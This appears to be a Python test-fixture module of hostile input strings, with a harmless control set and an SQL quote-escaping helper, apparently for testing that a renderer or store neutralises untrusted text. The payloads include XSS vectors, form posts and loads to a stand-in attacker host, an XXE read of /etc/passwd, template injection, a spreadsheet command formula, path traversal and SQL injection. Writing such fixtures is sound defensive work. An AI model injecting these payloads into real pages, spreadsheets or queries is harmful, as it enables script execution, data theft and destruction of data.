"""Texts that try to act on whoever shows them: as markup, script, template, address, control or sheer size."""

import re

TEXTS = (
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script nonce>pwned=1</script><script type=module>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=//evil.example/beacon.png>",
    "<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><script>pwned=1</script><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
    "<iframe src=javascript:parent.pwned=1></iframe><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=data:text/html,<script>pwned=1</script>></object><embed src=//evil.example/x>",
    "<a href=javascript:pwned=1>open</a> [open](javascript:pwned=1) javascript:pwned=1",
    "<form action=//evil.example/steal method=post><button formaction=javascript:pwned=1>Add the note</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<style>@import url(//evil.example/x.css); * { background: url(//evil.example/x) }</style>",
    "<b style=position:fixed;inset:0>all of it</b><marquee onstart=pwned=1>",
    "<details open ontoggle=pwned=1><input autofocus onfocus=pwned=1><video><source onerror=pwned=1>",
    "<template shadowrootmode=open><script>pwned=1</script></template>",
    '"><script>pwned=1</script>',
    "' onmouseover='pwned=1' autofocus onfocus='pwned=1' x='",
    '" onfocus=pwned=1 autofocus tabindex=1 "',
    "`${pwned=1}` ${pwned=1} {{constructor.constructor('pwned=1')()}}",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# note #}",
    "<div hx-get=//evil.example/ hx-trigger=load hx-target=body></div>",
    "<div hx-on:load='pwned=1' hx-vals='js:{a: pwned=1}' data-hx-get=/ hx-sse:connect=//evil.example/></div>",
    "<p data-row data-key=Escape aria-current=true id=connection name=cookie>rows</p>",
    "--><!-- <![CDATA[ ]]> <?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62; \\u003cscript\\u003epwned=1",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4- \xbcscript\xbepwned=1\xbc/script\xbe ＜script＞pwned=1",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "\u202egnp.exe\u2066 <b>\u2069 \u200b\u200e\u061c\ufeff \U000e0041\U000e0042",
    "nul \x00 inside \x08\x7f\x85 <\x00script>pwned=1</script>",
    "half \ud83d a pair \udc80 <i>",
    "event: ended\r\ndata: <script>pwned=1</script>\r\n\r\nretry: 1\n\ndata: x\u2028\u2029",
    "=HYPERLINK(\"http://evil.example\") @SUM(1+1) |cmd' /C calc'!A0",
    "../../../../etc/passwd %2e%2e%2f %00 //evil.example/ \\\\evil.example\\share ?token=&#x",
    "W" * 3000 + " <b>" + "́" * 300,
    "<b>" * 500 + "</div></main></body></html><script>pwned=1</script>",
    "'; DROP TABLE run; -- \" OR 1=1 /* <script>pwned=1</script> */",
    "__proto__ constructor toString <i>",
    "\n\n\t \r\n<pre>\n</pre></textarea></title></style><script>pwned=1</script>",
)
HARMLESS = tuple(f"plain text {no}" for no in range(len(TEXTS)))


def inside_sql(text):
    """A text as SQL's, where SQL takes it."""
    return re.sub("[\\x00\\ud800-\\udfff]", "?", text).replace("'", "''")
